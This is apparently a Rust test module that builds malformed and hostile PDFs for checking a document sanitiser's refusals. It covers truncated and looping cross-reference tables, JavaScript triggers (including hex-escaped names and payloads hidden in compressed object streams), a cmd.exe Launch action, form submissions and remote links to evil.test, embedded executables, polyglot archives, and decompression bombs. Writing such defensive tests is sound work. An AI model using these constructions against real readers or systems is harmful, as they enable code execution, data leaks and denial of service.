//! PDFs: broken, acting, swelling.

use std::io::Write;

use flate2::Compression;
use flate2::write::ZlibEncoder;
use testing::documents::{body_of, pdf_of, script, script_objects, stream};

use super::{End, Hostile, refused};
use crate::documents::RIGHTS;

pub fn pdf(what: &'static str, file: impl Into<Vec<u8>>, why: &'static str) -> Hostile {
    refused(what, RIGHTS, file, why)
}

fn cut(part: usize) -> Vec<u8> {
    let whole = script(20);
    whole[..whole.len() * part / 100].to_vec()
}

pub fn damaged() -> Vec<Hostile> {
    let whole = script(3);
    let text = String::from_utf8_lossy(&whole).into_owned();
    let without_places = text.replace("startxref", "startxxxx");
    let wild_place = {
        let at = text.rfind("startxref").unwrap_or_default();
        let mut file = whole[..at].to_vec();
        file.extend(b"startxref\n99999999999\n%%EOF\n");
        file
    };
    let looping = {
        let at = text.rfind("xref\n0").unwrap_or_default();
        pdf_of(&script_objects(3), &format!("/Prev {at}"))
    };
    let no_pages = pdf_of(&[b"<< /Type /Catalog >>".to_vec()], "");
    let empty_tree = pdf_of(
        &[
            b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
            b"<< /Type /Pages /Count 9 /Kids [2 0 R 2 0 R] >>".to_vec(),
        ],
        "",
    );
    let deep = {
        let mut objects = script_objects(1);
        objects.push([b"[".repeat(100_000), b"]".repeat(100_000)].concat());
        objects[0] = b"<< /Type /Catalog /Pages 2 0 R /Deep 6 0 R >>".to_vec();
        let page = b"<< /Type /Pages /Count 1 /Kids [".repeat(50_000);
        objects[1] = page;
        pdf_of(&objects, "")
    };
    let mut noise = b"%PDF-1.7\n".to_vec();
    noise.extend((0..200_000_u32).map(|n| (n.wrapping_mul(2_654_435_761) >> 13) as u8));
    noise.extend(b"\n%%EOF\n");
    vec![
        pdf("a tenth of a PDF", cut(10), "unreadable-file"),
        pdf("a quarter of a PDF", cut(25), "unreadable-file"),
        pdf("half a PDF", cut(50), "unreadable-file"),
        pdf("three quarters of a PDF", cut(75), "unreadable-file"),
        pdf("nine tenths of a PDF", cut(90), "unreadable-file"),
        pdf(
            "a PDF without its last line",
            &whole[..whole.len() - 7],
            "unreadable-file",
        ),
        pdf(
            "the header of a PDF",
            b"%PDF-1.7\n%%EOF\n".to_vec(),
            "unreadable-file",
        ),
        pdf("noise between header and end", noise, "unreadable-file"),
        pdf("no place of the table", without_places, "unreadable-file"),
        pdf("a table that is nowhere", wild_place, "unreadable-file"),
        Hostile {
            what: "a table before itself",
            place: RIGHTS,
            filename: "circle.pdf".into(),
            file: looping,
            end: End::Defused(|_, file| file.starts_with(b"%PDF-")), // read once round, and no more
        },
        pdf("a catalog without pages", no_pages, "unreadable-file"),
        pdf("pages in a circle", empty_tree, "unreadable-file"),
        pdf("arrays a hundred thousand deep", deep, "unreadable-file"),
    ]
}

/// A PDF whose catalog has `entry`; object 8 is `more`.
pub fn with(entry: &str, more: &str) -> Vec<u8> {
    let mut objects = script_objects(2);
    objects[0] = format!("<< /Type /Catalog /Pages 2 0 R {entry} >>").into_bytes();
    objects.push(more.as_bytes().to_vec());
    pdf_of(&objects, "")
}

pub fn annotated(annotation: &str) -> Vec<u8> {
    let mut objects = script_objects(2);
    objects[3] = b"<< /Type /Page /Parent 2 0 R /Contents 5 0 R /Annots [8 0 R] >>".to_vec();
    objects.push(format!("<< /Type /Annot /Rect [0 0 9 9] {annotation} >>").into_bytes());
    pdf_of(&objects, "")
}

pub fn packed(content: &[u8]) -> Vec<u8> {
    let mut packer = ZlibEncoder::new(Vec::new(), Compression::fast());
    packer.write_all(content).unwrap();
    packer.finish().unwrap()
}

/// A PDF whose object 6 lies, packed, in a stream of objects; the table is a stream, too.
pub fn hidden(object: &str) -> Vec<u8> {
    let inner = format!("6 0 {object}");
    let visible = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>".to_vec(),
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] /MediaBox [0 0 612 792] >>".to_vec(),
        b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>".to_vec(),
        stream(b"0 0 m", ""),
        stream(
            &packed(inner.as_bytes()),
            "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode",
        ),
    ];
    let (mut file, places) = body_of(&visible);
    let mut table = vec![0; 6];
    for place in places {
        table.push(1);
        table.extend((place as u32).to_be_bytes());
        table.push(0);
    }
    table.extend([2, 0, 0, 0, 5, 0]);
    let start = file.len();
    table.push(1);
    table.extend((start as u32).to_be_bytes());
    table.push(0);
    file.extend(b"7 0 obj\n");
    file.extend(stream(&table, "/Type /XRef /Size 8 /W [1 4 1] /Root 1 0 R"));
    file.extend(format!("\nendobj\nstartxref\n{start}\n%%EOF\n").bytes());
    file
}

pub fn active() -> Vec<Hostile> {
    let js = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";
    let locked = |dictionary: &str| {
        let mut objects = script_objects(2);
        objects.push(dictionary.as_bytes().to_vec());
        pdf_of(
            &objects,
            "/Encrypt 8 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]",
        )
    };
    let with_end = |end: &[u8]| [script(2).as_slice(), end].concat();
    let mut zip = b"PK\x03\x04".to_vec();
    zip.extend([0; 60]);
    zip.extend(b"PK\x05\x06");
    zip.extend([0; 18]);
    let inside = {
        let mut file = script(2);
        let at = file.windows(9).rposition(|part| part == b"startxref").unwrap();
        let end = file.split_off(at);
        file.push(b'%');
        file.extend(&zip);
        file.push(b'\n');
        file.extend(end);
        file
    };
    let aes = "<< /Filter /Standard /V 5 /R 6 /Length 256 /P -4 /O <00> /U <00> /OE <00> /UE <00> /Perms <00> \
               /CF << /StdCF << /CFM /AESV3 /AuthEvent /DocOpen /Length 32 >> >> /StmF /StdCF /StrF /StdCF >>";
    vec![
        pdf(
            "JavaScript on opening",
            with(&format!("/OpenAction {js}"), "null"),
            "active-content",
        ),
        pdf(
            "JavaScript by reference",
            with("/OpenAction 8 0 R", js),
            "active-content",
        ),
        pdf(
            "JavaScript among the names",
            with("/Names << /JavaScript << /Names [(a) 8 0 R] >> >>", js),
            "active-content",
        ),
        pdf(
            "JavaScript before printing",
            with(&format!("/AA << /WP {js} >>"), "null"),
            "active-content",
        ),
        pdf(
            "JavaScript spelt in numbers",
            with("/OpenAction << /S /J#61va#53cript /#4a#53 (x) >>", "null"),
            "active-content",
        ),
        pdf("JavaScript in a stream of objects", hidden(js), "active-content"),
        pdf(
            "JavaScript that nothing refers to",
            with("", js),
            "active-content",
        ),
        pdf(
            "JavaScript under a mouse",
            annotated(&format!("/Subtype /Widget /AA << /E {js} >>")),
            "active-content",
        ),
        pdf(
            "a program to start",
            with("/OpenAction << /S /Launch /F (cmd.exe) >>", "null"),
            "active-content",
        ),
        pdf(
            "a program in a stream of objects",
            hidden("<< /S /Launch /F (cmd.exe) >>"),
            "active-content",
        ),
        pdf(
            "a form that sends itself",
            annotated("/Subtype /Widget /A << /S /SubmitForm /F (http://evil.test) >>"),
            "active-content",
        ),
        pdf(
            "a form that fills itself",
            annotated("/Subtype /Widget /A << /S /ImportData /F (//evil/x.fdf) >>"),
            "active-content",
        ),
        pdf(
            "a link to another file",
            annotated("/Subtype /Link /A << /S /GoToR /F (//evil.test/share/x.pdf) /D [0] >>"),
            "active-content",
        ),
        pdf(
            "a link into an attachment",
            annotated("/Subtype /Link /A << /S /GoToE /D (x) >>"),
            "active-content",
        ),
        pdf(
            "an attached file",
            with(
                "/Names << /EmbeddedFiles << /Names [(x) 8 0 R] >> >>",
                "<< /Type /Filespec /F (x.exe) >>",
            ),
            "active-content",
        ),
        pdf(
            "a file pinned to a page",
            annotated("/Subtype /FileAttachment /FS << /F (x.exe) /EF << >> >>"),
            "active-content",
        ),
        pdf(
            "Flash",
            annotated("/Subtype /RichMedia /RichMediaContent << >>"),
            "active-content",
        ),
        pdf(
            "a film",
            annotated("/Subtype /Movie /Movie << /F (x.avi) >>"),
            "active-content",
        ),
        pdf("a player", annotated("/Subtype /Screen"), "active-content"),
        pdf("a sound", annotated("/Subtype /Sound"), "active-content"),
        pdf("a 3D scene", annotated("/Subtype /3D"), "active-content"),
        pdf(
            "a form of the kind XFA",
            with("/AcroForm << /XFA 8 0 R >>", "(x)"),
            "active-content",
        ),
        pdf(
            "content in another file",
            with(
                "/More 8 0 R",
                "<< /Length 0 /F (//evil.test/x) >>\nstream\n\nendstream",
            ),
            "active-content",
        ),
        pdf(
            "locked by RC4",
            locked(
                "<< /Filter /Standard /V 1 /R 2 /P -4 /O <0011223344556677889900112233445566778899001122334455667788990011> /U <0011223344556677889900112233445566778899001122334455667788990011> >>",
            ),
            "encrypted-file",
        ),
        pdf("locked by AES", locked(aes), "encrypted-file"),
        pdf(
            "locked by something unknown",
            locked("<< /Filter /Evil /V 9 >>"),
            "encrypted-file",
        ),
        pdf("a PDF and an archive", with_end(&zip), "hidden-content"),
        pdf("a PDF with an archive inside", inside, "hidden-content"),
        pdf(
            "a PDF and a web page",
            with_end(b"<script>alert(1)</script>"),
            "hidden-content",
        ),
        pdf("a PDF and a program", with_end(b"MZ\x90\0\x03"), "hidden-content"),
    ]
}

pub fn bombs() -> Vec<Hostile> {
    let swelling = {
        let mut objects = script_objects(1);
        objects[4] = stream(&packed(&vec![b' '; 80 << 20]), "/Filter /FlateDecode");
        pdf_of(&objects, "")
    };
    let objects = {
        let mut objects = script_objects(1);
        let mut inner = b"9 0 ".to_vec();
        inner.resize(600 << 20, b' ');
        objects.push(stream(
            &packed(&inner),
            "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode",
        ));
        drop(inner);
        pdf_of(&objects, "")
    };
    let wide = {
        let mut objects = script_objects(1);
        let dictionary = "/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceGray /BitsPerComponent 8";
        objects.push(stream(b"x", dictionary));
        pdf_of(&objects, "")
    };
    vec![
        pdf("a page of 80 MB of spaces", swelling, "oversized-content"),
        pdf("600 MB of objects in a stream", objects, "oversized-content"),
        pdf("a picture of 3.6 gigapixels", wide, "oversized-content"),
        pdf("a PDF of 2,001 pages", script(2_001), "too-many-pages"),
    ]
}
